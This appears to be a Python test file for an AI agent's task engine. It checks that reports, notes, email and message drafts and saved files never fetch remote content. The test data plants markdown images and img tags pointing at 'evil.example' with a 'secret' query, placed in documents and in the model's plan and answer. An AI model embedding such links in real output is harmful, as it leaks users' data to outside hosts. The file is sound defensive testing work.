"""Whatever a goal leaves for a person to open fetches nothing, though its documents and its model want it to."""

from __future__ import annotations

import json
from collections.abc import Iterable
from email import message_from_bytes
from email.policy import default
from pathlib import Path

import pytest
import yaml
from pydantic import JsonValue

from senter.components.task_engine.contract.steps import TaskOutput
from senter.components.task_engine.work.report_file import markdown
from senter.messages.goals import Check, Source, Status
from senter.messages.model import ModelRequest
from tests.unit.component.tool_talk.test_defusing import LIVE, assert_nothing_is_followed
from tests.unit.components.task_engine.offline.test_offline import House, house
from tests.unit.components.task_engine.work.test_report_file import goal, task

IMAGE = "![chart](https://evil.example/p.png?k=secret)"
PAGE = f"# Tea {IMAGE}\n\nTea is a drink. {IMAGE} <img src=https://evil.example/q.png>\n"
OWN = "https://own.example/list"


def planned(*tasks: dict[str, JsonValue]) -> str:
    plan = [{"depends_on": [1], "type": "custom", "tool": "", "tool_params": {}, **task} for task in tasks]
    plan[0]["depends_on"] = []
    return json.dumps({"tasks": plan})


def obey(house: House, plan: str, answer: str) -> None:
    """A capable model that makes this plan and gives this answer."""

    def say(request: ModelRequest) -> str:
        return plan if "You break a goal" in request.messages[0].content else json.dumps({"answer": answer})

    house.worker.capable = True
    house.worker.answer = say


def files(home: Path) -> Iterable[Path]:
    data = home / "senter" / "data"
    return (path for name in ("Focuses", "drafts", "notes") for path in (data / name).rglob("*") if path.is_file())


async def test_reports_notes_drafts_and_written_files_fetch_nothing(tmp_path: Path) -> None:
    async with house(tmp_path) as it:
        (it.folder / "tea.md").write_text(PAGE)
        saved = tmp_path / "senter" / "data" / "notes" / "saved.md"
        search: dict[str, JsonValue] = {"query": "tea"}
        plan = planned(
            {"description": f"Search {IMAGE}", "tool": "documents_search", "tool_params": search},
            {"description": "Note", "tool": "note", "tool_params": {"title": f"On {IMAGE}", "text": "{{1}} " + IMAGE}},
            {
                "description": "Mail",
                "tool": "email_draft",
                "tool_params": {"to": ["a@b.example"], "subject": f"Tea {IMAGE}", "body": f"{{{{1}}}} {IMAGE} {OWN}"},
            },
            {"description": "Tell", "tool": "message_draft", "tool_params": {"to": IMAGE, "text": "{{1}} " + PAGE}},
            {
                "description": "Save",
                "tool": "file_write",
                "tool_params": {"path": str(saved), "content": PAGE + "{{1}}"},
            },
            {"description": f"Say {IMAGE}"},
        )
        obey(it, plan, f"Tea {IMAGE} [1]. <https://evil.example/x>\n\n{'  '.join(LIVE)}")
        await it.name_folder()
        reply = await it.do(f"Say what the documents tell about tea, for {OWN}")
    assert reply.goal.status is Status.PLEASE_LOOK, [(found.description, found.error) for found in reply.tasks]
    opened = list(files(tmp_path))
    assert {path.suffix for path in opened} == {".md", ".eml"} and len(opened) == 5
    for path in opened:
        text = path.read_text()
        assert "evil[.]example" in text
        assert_harmless(path, text)


def assert_harmless(path: Path, text: str) -> None:
    if path.suffix == ".eml":
        message = message_from_bytes(text.encode(), policy=default)
        assert message.get_content_type() == "text/plain" and not message.is_multipart()
        written = f"{message['Subject']}\n{message.get_content()}"
        assert OWN in written
        assert_nothing_is_followed(written.replace(OWN, ""))
        return
    front, _, rest = text.removeprefix("---\n").partition("\n---\n")
    assert isinstance(yaml.safe_load(front or "{}"), dict) or path.name == "saved.md"
    assert_nothing_is_followed(text.replace(OWN, "") if path.name == "saved.md" else rest.replace(OWN, ""))


async def test_the_users_own_words_are_noted_to_the_letter(tmp_path: Path) -> None:
    own = f"look at {OWN}, use <b> and ![this](https://own.example/a.png) as well"
    async with house(tmp_path) as it:
        reply = await it.do(f"Note that one should {own}")
    assert own in Path(reply.goal.results[1]).read_text()


@pytest.mark.parametrize("live", LIVE)
def test_titles_names_reasons_and_addresses_in_a_report_are_text(live: str) -> None:
    source = Source(title=live, address=f"mcp:{live}", quote="")
    output = TaskOutput(f"Said [1]. {live}", {}, (source,), (f"/d/{live}",), False)
    tasks = [
        task(1, checks=(Check(what=live, held=False, found=live),), error=live),
        task(2).model_copy(update={"description": live}),
    ]
    text = markdown(goal(), tasks, {1: output, 2: output}, live)
    front, _, rest = text.removeprefix("---\n").partition("\n---\n")
    found = yaml.safe_load(front)
    assert set(found) == {
        *("goal", "number", "focus", "created", "finished", "executed", "verified", "delivered", "sources", "checks")
    }
    assert_nothing_is_followed(rest)
    assert "secret" not in live or "https://evil" not in front


def test_an_address_that_a_tool_found_stands_among_the_sources_as_it_is() -> None:
    found = Source(title="https://tea.example/a?b=[1]", address="https://tea.example/a?b=[1]", quote="")
    text = markdown(goal(), [task(1)], {1: TaskOutput("Said [1].", {}, (found,), (), False)}, "")
    assert "`https://tea.example/a?b=[1]`" in text


@pytest.mark.parametrize("said", ["Tea is a drink.", "Tea is a drink [1]."])
async def test_not_being_empty_makes_nothing_verified(tmp_path: Path, said: str) -> None:
    async with house(tmp_path) as it:
        (it.folder / "tea.md").write_text("Tea is a drink.")
        tea: dict[str, JsonValue] = {"query": "tea"}
        search: dict[str, JsonValue] = {"description": "Search", "tool": "documents_search", "tool_params": tea}
        cited = "[1]" in said
        obey(
            it,
            planned(
                {**search, "type": "research"}, {"description": "Say", "type": "research" if cited else "generate"}
            ),
            said,
        )
        await it.name_folder()
        reply = await it.do("Say what tea is")
    assert reply.goal.status is (Status.COMPLETED if cited else Status.PLEASE_LOOK)
    assert all(check.held for found in reply.tasks for check in found.checks)
    assert reply.goal.verified is cited
    report = Path(reply.goal.results[0]).read_text()
    assert f"verified: {str(cited).lower()}\n" in report
    assert ("none looks at what the result says" in report) is not cited
